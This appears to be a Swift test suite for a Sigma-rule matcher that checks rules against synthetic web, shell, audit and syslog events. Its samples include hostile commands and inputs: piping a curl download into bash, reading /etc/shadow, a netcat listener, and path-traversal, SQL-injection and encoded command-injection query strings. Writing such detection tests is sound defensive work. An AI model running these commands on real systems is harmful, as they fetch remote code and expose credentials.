import Model
import Sigma
import Testing

/// Events as readers make them, for rules that name their fields by the taxonomy of Sigma.
enum DraftFixture {
    /// A draft over a line; `part` gives the place of a piece of it.
    static func draft(
        _ line: String, _ format: String, _ kind: EventKind, _ fill: (inout EventDraft, (String) -> Slice) -> Void = { _, _ in }
    ) -> (text: [UInt8], draft: EventDraft) {
        let text = Array(line.utf8)
        var draft = EventDraft()
        (draft.format, draft.kind, draft.record) = (format, kind, 0..<text.count)
        let whole = RawText(text)
        fill(&draft) { part in whole.firstRange(of: RawText(part)).map { Slice($0) } ?? .absent }
        return (text, draft)
    }

    static func request(_ target: String, agent: String = "Agent/1", status: Int = 200, format: String = "http.access") -> (
        text: [UInt8], draft: EventDraft
    ) {
        draft("192.0.2.7 - - [04/Mar/2026:05:06:07 +0000] \"GET \(target) HTTP/1.1\" \(status) 77 \"-\" \"\(agent)\"", format, .httpRequest)
        {
            draft, part in
            (draft.address, draft.method, draft.agent) = (part("192.0.2.7"), part("GET"), part(agent))
            let start = part("GET ").range.upperBound
            draft.path = Slice(start..<start + target.utf8.count)
            (draft.status, draft.bytes) = (status, 77)
        }
    }

    static func command(_ command: String, format: String = "bash_history", kind: EventKind = .command) -> (
        text: [UInt8], draft: EventDraft
    ) {
        draft(command, format, kind) { draft, part in draft.add("process.command_line", part(command)) }
    }

    static func matches(_ rule: String, _ event: (text: [UInt8], draft: EventDraft)) -> Bool? {
        let rules = RuleFixture.load(rule)
        guard rules.rules.count == 1 else { return nil }
        var matcher = SigmaRuleSet(rules).matcher()
        return !matcher.match(event.text.span, event.draft).isEmpty
    }
}

@Suite struct `An event that a reader made` {
    private func rule(_ line: String, _ logSource: String) -> String {
        RuleFixture.rule("selection:\n    \(line)\ncondition: selection", logSource: logSource)
    }

    private func keywords(_ word: String, _ logSource: String) -> String {
        RuleFixture.rule("keywords:\n    - '\(word)'\ncondition: keywords", logSource: logSource)
    }

    static let processes: [(line: String, command: String, holds: Bool)] = [
        ("CommandLine|contains: 'shadow'", "cat /etc/shadow", true), ("Image|endswith: '/cat'", "cat /etc/shadow", true),
        ("Image|endswith: '/cat'", "/usr/bin/cat x", true), ("Image: '/usr/bin/cat'", "cat x", false),
        ("Image|endswith: '/at'", "cat x", false),
        ("Image|endswith: '/bash'", "curl -s http://192.0.2.1/x | bash", true),
        ("Image|endswith: '/curl'", "curl -s http://192.0.2.1/x | bash", true),
        ("CommandLine|startswith: 'bash'", "curl -s http://192.0.2.1/x | bash", true),
        ("Image|endswith: '/id'", "cd /tmp && ./x; id", true),
        ("Image|startswith: './x'", "cd /tmp && ./x; id", true), ("Image|endswith: '/id'", "echo 'a; id'", false),
        ("Image|endswith: '/nc'", "sudo -u www nc -l 99", true), ("Image|endswith: '/nc'", "FOO=1 nohup nc -l 99 &", true),
        ("Image|endswith: '/sudo'", "sudo -u www nc -l 99", true), ("Image|endswith: '/1'", "echo a 2>&1", false),
        ("CommandLine|contains: '|'", "echo a | cat", true), ("Image|endswith: '/php'", "/usr/bin/php -r 'x'", true),
        ("Image: null", "", true),
    ]

    @Test(arguments: processes)
    func `of a command gives the command and its program`(line: String, command: String, holds: Bool) {
        let rule = rule(line, "category: process_creation\n    product: linux")
        #expect(DraftFixture.matches(rule, DraftFixture.command(command)) == holds)
        #expect(DraftFixture.matches(rule, DraftFixture.command(command, format: "cron", kind: .jobRun)) == holds)
    }

    static let requests: [(line: String, target: String, holds: Bool)] = [
        ("cs-uri-stem: '/a.php'", "/a.php?x=1", true), ("cs-uri-query: 'x=1'", "/a.php?x=1", true),
        ("cs-uri: '/a.php?x=1'", "/a.php?x=1", true),
        ("cs-uri-query|contains: '/a.php'", "/a.php?x=1", true), ("cs-uri-stem|contains: 'x=1'", "/a.php?x=1", false),
        ("cs-uri-query|contains: '../../'", "/a?f=..%2f..%2f", true),
        ("cs-uri-query|contains: '%2f'", "/a?f=..%2f..%2f", true), ("cs-uri-query|contains: '../../'", "/a?f=..%252f..%252f", true),
        ("cs-uri-query|contains: 'union select'", "/a?q=union+select", true),
        ("cs-uri-query|contains: 'union+select'", "/a?q=union+select", true),
        ("cs-uri-stem|contains: 'a b'", "/a+b", false), ("cs-method: 'get'", "/", true), ("sc-status: 200", "/", true),
        ("sc-bytes|gt: 70", "/", true),
        ("c-ip|cidr: 192.0.2.0/24", "/", true), ("cs-user-agent|startswith: 'agent'", "/", true), ("cs-referer|exists: true", "/", false),
        ("cs-host|exists: false", "/", true),
    ]

    @Test(arguments: requests)
    func `of a request gives the fields of web servers, as written and decoded`(line: String, target: String, holds: Bool) {
        #expect(DraftFixture.matches(rule(line, "category: webserver"), DraftFixture.request(target)) == holds)
    }

    @Test func `of a request is seen by keywords as written and decoded`() {
        #expect(DraftFixture.matches(keywords("=whoami;", "category: webserver"), DraftFixture.request("/x?c=%77hoami%3b")) == true)
        #expect(DraftFixture.matches(keywords("=%77hoami", "category: webserver"), DraftFixture.request("/x?c=%77hoami%3b")) == true)
        #expect(DraftFixture.matches(keywords("=who", "category: webserver"), DraftFixture.request("/x?c=woh")) == false)
    }

    @Test func `of a web server counts for rules of its maker alone`() {
        let request = DraftFixture.request("/x", format: "nginx.access")
        #expect(DraftFixture.matches(keywords("/x", "service: nginx"), request) == true)
        #expect(DraftFixture.matches(keywords("/x", "service: apache"), request) == false)
        #expect(DraftFixture.matches(keywords("/x", "service: apache"), DraftFixture.request("/x")) == true)
    }

    @Test func `of audit gives its records under their own names`() {
        let event = DraftFixture.draft("type=SYSCALL a0=55aa exe=\"/usr/bin/touch\" EXECVE touch -r x", "audit", .processStart) {
            draft, part in
            draft.add("type", part("SYSCALL"))
            draft.add("a0", part("55aa"))
            draft.add("exe", part("/usr/bin/touch"))
            draft.add("type", part("EXECVE"))
            draft.add("EXECVE.a0", part("touch -r").range.prefix(5))
            draft.add("process.command_line", part("touch -r x"))
        }
        let auditd = "product: linux\n    service: auditd"
        #expect(DraftFixture.matches(rule("type: EXECVE", auditd), event) == true)
        #expect(DraftFixture.matches(rule("a0|endswith: 'touch'", auditd), event) == true)
        #expect(DraftFixture.matches(rule("a0: '55aa'", auditd), event) == true)
        #expect(DraftFixture.matches(rule("type: PATH", auditd), event) == false)
        #expect(DraftFixture.matches(rule("Image: '/usr/bin/touch'", "category: process_creation"), event) == true)
        #expect(DraftFixture.matches(rule("CommandLine: 'touch -r x'", "category: process_creation"), event) == true)
    }

    static let sources: [(logSource: String, format: String, process: String, kind: EventKind, holds: Bool)] = [
        ("product: linux\n    service: sshd", "sshd", "sshd", .loginFailure, true),
        ("product: linux\n    service: sshd", "syslog", "sshd-session", .message, true),
        ("product: linux\n    service: sshd", "cron", "CRON", .jobRun, false),
        ("product: linux\n    service: cron", "cron", "CRON", .jobRun, true),
        ("product: linux\n    service: sudo", "sudo", "sudo", .privilegeUse, true),
        ("product: linux\n    service: auth", "sshd", "sshd", .loginFailure, true),
        ("product: linux\n    service: auth", "syslog", "rsyslogd", .message, false),
        ("product: linux\n    service: syslog", "syslog", "rsyslogd", .message, true),
        ("product: linux\n    service: syslog", "audit", "", .message, false), ("product: linux", "audit", "", .message, true),
        ("product: linux\n    service: vsftpd", "vsftpd", "", .loginFailure, true),
        ("product: linux\n    service: clamav", "syslog", "freshclam", .message, true),
        ("category: antivirus", "syslog", "clamd", .malwareFound, true), ("category: antivirus", "syslog", "clamd", .message, false),
        ("category: application\n    product: django", "syslog", "gunicorn", .message, true),
        ("category: database", "syslog", "mysqld", .message, true),
        ("product: linux\n    service: exim", "syslog", "exim", .message, true),
        ("product: linux\n    service: exim", "syslog", "postfix", .message, false),
        ("category: process_creation\n    product: linux", "syslog", "init", .message, false),
        ("category: firewall", "kernel", "kernel", .firewallDrop, true),
    ]

    @Test(arguments: sources)
    func `is held against rules of its own log sources alone`(
        logSource: String, format: String, process: String, kind: EventKind, holds: Bool
    ) {
        let event = DraftFixture.draft("Mar  4 05:06:07 web1 \(process)[99]: a word here", format, kind) { draft, part in
            if !process.isEmpty { draft.process = part(process) }
            draft.message = part("a word here")
        }
        #expect(DraftFixture.matches(keywords("a word", logSource), event) == holds)
    }

    @Test func `of a file or a connection gives their fields`() {
        let file = DraftFixture.draft("upload /srv/www/x.php", "vsftpd", .fileUpload) { draft, part in draft.path = part("/srv/www/x.php") }
        #expect(DraftFixture.matches(rule("TargetFilename|endswith: '.php'", "category: file_event"), file) == true)
        #expect(DraftFixture.matches(rule("TargetFilename|endswith: '.php'", "category: file_delete"), file) == false)
        let peer = DraftFixture.draft("connect 203.0.113.9 6667", "audit", .networkConnect) { draft, part in
            draft.address = part("203.0.113.9")
            draft.port = 6667
        }
        #expect(DraftFixture.matches(rule("DestinationPort: 6667", "category: network_connection"), peer) == true)
        #expect(DraftFixture.matches(rule("DestinationIp|cidr: 203.0.113.0/24", "category: network_connection"), peer) == true)
        #expect(DraftFixture.matches(rule("Initiated: 'true'", "category: network_connection"), peer) == true)
    }

    @Test func `with values that were decoded is matched by what they mean`() {
        var event = DraftFixture.draft("type=EXECVE a0=636174", "audit", .processStart)
        event.draft.add("a0", event.draft.decode("cat /etc/shadow"))
        #expect(DraftFixture.matches(rule("a0|contains: 'shadow'", "service: auditd"), event) == true)
    }

    @Test(arguments: [0..<5, 3..<900, 900..<1000, -5..<2])
    func `whose places lie outside of its text harms nothing`(place: Range<Int>) {
        var event = DraftFixture.draft("short", "http.access", .httpRequest)
        event.draft.record = place
        event.draft.path = Slice(max(0, place.lowerBound)..<max(0, place.upperBound))
        event.draft.add("process.command_line", event.draft.path)
        #expect(DraftFixture.matches(keywords("long", "category: webserver"), event) == false)
    }
}
